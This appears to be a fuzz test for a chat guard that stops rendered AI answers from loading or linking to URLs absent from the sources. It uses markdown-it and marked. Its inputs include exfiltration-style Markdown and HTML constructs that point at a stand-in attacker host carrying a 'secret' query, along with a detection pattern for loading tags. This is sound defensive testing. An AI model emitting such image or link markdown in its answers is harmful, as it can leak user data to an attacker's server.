import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { createGuard } from '../../../../core/chat/guard/guard.js';
import { knownUrls } from '../../../../core/chat/guard/known-urls.js';
import t from '../../../support/t.js';

/*
 * Two renderers show random combinations of Markdown and HTML constructs. Nothing must load, and nothing may link
 * to the URL that is absent from the sources.
 */

const ANSWERS = 2000;
const known = 'https://docs.acme.com/a';
const evil = 'https://evil.example/?q=secret';
const isKnownUrl = knownUrls([`See ${known} and [terms](/terms).`], []);

const constructs = [
  `![x](${evil})`,
  `[x](${evil})`,
  `<${evil}>`,
  evil,
  '//evil.example/s',
  'www.evil.example/s',
  `[x]: ${evil}\n`,
  '[](https://evil.example)',
];
const brackets = '[ ] ( ) ! < > " \' \\ | : / = ]( ![ [x] [1] [9] [2]:'.split(' ');
const code = ['`', '``', '```', '```\n', '```js\n', '~~~', '~~~\n', '    '];
const lines = ['\n', '\n', '\n\n', ' ', '  ', '\t', '- ', '> ', '1. ', '| a | b |\n|---|---|\n', '# '];
const html = [
  '<img src=',
  '<a href=',
  '<!--',
  '-->',
  '</a>',
  '<div>',
  '<b>',
  '<pre>',
  '</pre>',
  '<br>',
  'img',
  ' src=',
];
const words = [
  'x',
  'http',
  's',
  'ht',
  'tps',
  '://',
  'ww',
  'w',
  'www.',
  '.',
  'evil.example',
  known,
  `[k](${known})`,
];
const alphabet = [...constructs, ...constructs, ...brackets, ...code, ...lines, ...html, ...words];

/** Deterministic: the linear congruential generator of Numerical Recipes. */
function sequence(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

const markdownIt = new MarkdownIt({ html: true });
const renderers: Record<string, (text: string) => string> = {
  'markdown-it': (text) => markdownIt.render(text),
  marked: (text) => marked.parse(text, { async: false }),
};

const loading =
  /<(?:img|image|iframe|script|style|link|video|audio|object|embed|svg|input|base)\b[^>]*(?:src|href|data)\s*=/i;

/** Returns everything that the page would load or link to without a source. */
function leaks(page: string): string[] {
  const links = [...page.matchAll(/<a\b[^>]*?href\s*=\s*["']?([^"'\s>]+)/gi)].map(([, url]) => url ?? '');
  return [
    ...links.filter((url) => /evil/.test(url) && /^(?:https?:)?\/\//i.test(url)),
    ...(loading.exec(page) ?? []),
  ];
}

function guarded(text: string, length: number): string {
  const guard = createGuard({ isSource: (number) => number === '1', isKnownUrl });
  const pieces = [];
  for (let at = 0; at < text.length; at += length) pieces.push(...guard.push(text.slice(at, at + length)));
  pieces.push(...guard.end());
  return pieces.filter((piece) => typeof piece === 'string').join('');
}

t.test(
  'nothing loads and nothing links to unknown URLs, in any renderer, however the text is split',
  async (t) => {
    const random = sequence(12);
    let unguarded = 0;
    for (let n = 0; n < ANSWERS; n++) {
      const length = 2 + Math.floor(random() * 12);
      const answer = Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      const shown = guarded(answer, answer.length);
      if (guarded(answer, 1) !== shown) t.fail('cut otherwise, shown otherwise', { answer });
      for (const [name, render] of Object.entries(renderers)) {
        unguarded += leaks(render(answer)).length;
        const found = leaks(render(shown));
        if (found.length > 0) t.fail(`${name} shows ${found.join(', ')}`, { answer, shown });
      }
    }
    t.ok(unguarded > ANSWERS / 10, `without the guard, ${unguarded} would`);
  },
);
